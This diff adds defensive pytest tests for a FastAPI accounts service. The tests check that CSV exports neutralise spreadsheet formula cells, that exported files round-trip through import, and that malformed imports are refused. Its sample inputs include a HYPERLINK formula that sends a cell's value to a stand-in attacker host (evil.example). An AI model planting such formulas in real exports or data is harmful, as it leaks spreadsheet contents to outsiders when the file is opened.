@@ -3,6 +3,8 @@ all-or-nothing import, versions and restore."""
 
 from __future__ import annotations
 
+import csv
+import io
 from typing import Any
 
 import httpx
@@ -117,6 +119,87 @@ class TestCsvFiles:
         response = await client.post("/api/accounts/import", content=text, headers=headers)
         assert response.status_code == 422
         assert response.json()["imported"] == 0
+
+
+#: Text cells a spreadsheet would run as formulas (issue 13, item 4), and one that starts with
+#: the quote the export adds (it must round-trip too).
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)",
+            "\tcmd", "\r=1", "'=already quoted"]  # fmt: skip
+
+
+class TestCsvInjection:
+    async def test_the_desk_export_neutralises_formula_cells_and_keeps_numbers(
+        self, app: FastAPI, client: httpx.AsyncClient
+    ) -> None:
+        _, alice = await user_with_token(client)
+        for name in FORMULAS:
+            await add(client, alice, account_name=name, pnl=-12.5)
+        _, desk = await admin_headers(app, client)
+        exported = await client.get("/api/accounts/export.csv", headers=desk)
+        assert exported.status_code == 200
+        rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
+        assert [r["account_name"] for r in rows] == ["'" + name for name in FORMULAS]
+        assert {r["pnl"] for r in rows} == {"-12.5"}
+        lines = exported.text.splitlines()
+        assert lines[1].startswith('"')  # text cells are quoted...
+        assert ",-12.5,1000.0,2.0," in lines[1]  # ...numbers are bare numbers
+        for line in exported.text.split("\n")[1:-1]:
+            cells = next(csv.reader([line]))
+            assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells[:4])
+
+    async def test_an_exported_file_imports_back_to_the_same_rows(
+        self, client: httpx.AsyncClient
+    ) -> None:
+        _, headers = await user_with_token(client)
+        for name in [*FORMULAS, "plain", "-"]:
+            await add(client, headers, account_name=name, pnl=-12.5, margin=-3)
+        exported = (await client.get("/api/accounts/export.csv", headers=headers)).text
+        imported = await client.post(
+            "/api/accounts/import",
+            content=exported,
+            headers={**headers, "Content-Type": "text/csv"},
+        )
+        assert imported.status_code == 201, imported.text
+        rows = (await client.get("/api/fetch_csv", headers=headers)).json()
+        shown = [(r["account_name"], r["pnl"], r["margin"], r["broker"]) for r in rows]
+        assert shown[9:] == shown[:9]
+        assert [r["account_name"] for r in rows[:9]] == [*FORMULAS, "plain", "-"]
+
+
+class TestMalformedImports:
+    @pytest.mark.parametrize(
+        ("text", "line", "reason"),
+        [
+            ('broker,account_name\npaper,"oops\npaper,b\n', 2, "unterminated quoted field"),
+            ('broker,account_name\npaper,"a"b\npaper,c\n', 2, "',' expected after '\"'"),
+            ("broker,pnl\npaper,1\npaper,1,2\n", 3, "3 cells where the header has 2"),
+            ("broker,pnl\npaper,1\n\npaper\n", 4, "1 cell where the header has 2"),
+            ("broker,pnl,broker\npaper,1,kite\n", 1, "column 'broker' appears twice"),
+            ("broker,account_name\npaper,caf\xe9\n", 2, "not UTF-8"),
+        ],
+    )
+    async def test_a_malformed_file_is_refused_whole_with_its_line(
+        self, client: httpx.AsyncClient, text: str, line: int, reason: str
+    ) -> None:
+        _, headers = await user_with_token(client)
+        body = text.encode("latin-1") if "\xe9" in text else text.encode()
+        response = await client.post("/api/accounts/import", content=body, headers=headers)
+        assert response.status_code == 422, response.text
+        report = response.json()
+        assert (report["success"], report["imported"]) == (False, 0)
+        assert [e["line"] for e in report["errors"]] == [line]
+        assert report["errors"][0]["errors"] == [f"line {line}: {reason}"]
+        assert (await client.get("/api/fetch_csv", headers=headers)).json() == []
+
+    async def test_a_spreadsheets_byte_order_mark_and_crlf_lines_are_fine(
+        self, client: httpx.AsyncClient
+    ) -> None:
+        _, headers = await user_with_token(client)
+        body = '\ufeffbroker,account_name\r\npaper,"two\r\nlines"\r\n'.encode()
+        response = await client.post("/api/accounts/import", content=body, headers=headers)
+        assert response.status_code == 201, response.text
+        rows = (await client.get("/api/fetch_csv", headers=headers)).json()
+        assert [r["account_name"] for r in rows] == ["two\r\nlines"]
 
 
 class TestHistory:
